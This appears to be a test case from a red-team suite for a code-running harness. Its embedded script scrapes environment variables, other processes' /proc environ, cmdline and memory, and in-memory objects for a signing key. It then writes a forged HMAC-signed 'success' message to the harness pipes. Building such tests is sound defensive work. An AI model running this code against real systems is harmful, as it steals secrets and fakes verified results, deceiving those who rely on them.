"""The key that signs results looked for in memory, variables, arguments and other processes."""

from __future__ import annotations

from smith.redteam.base import Attack, Hack
from smith.redteam.target import Target

CODE = """
import gc
import glob
import hmac
import json
import os
import stat

candidates = [v.encode() for v in os.environ.values()]
for path in [*glob.glob("/proc/*/cmdline"), *glob.glob("/proc/*/environ"), *glob.glob("/proc/*/mem")]:
    try:
        with open(path, "rb") as file:
            candidates += file.read(1 << 16).split(bytes(1))
    except OSError:
        continue
for found in gc.get_objects():
    if isinstance(found, dict) and isinstance(found.get("key"), str):
        candidates.append(bytes.fromhex(found["key"]))
pipes = []
for fd in range(3, 256):
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            pipes.append(fd)
    except OSError:
        continue
for key in [c for c in candidates if len(c) == 32]:
    for fd in pipes:
        payload = json.dumps({"kind": "end", "status": 0}).encode()
        mac = hmac.new(key, b"1 " + payload, "sha256").hexdigest().encode()
        os.write(fd, b"%d 1 %s %s\\n" % (len(payload), mac, payload))
        os._exit(0)
"""


def attack(target: Target) -> Attack:
    return target.at_import(CODE)


HACK = Hack(7, "stolen-key", attack)
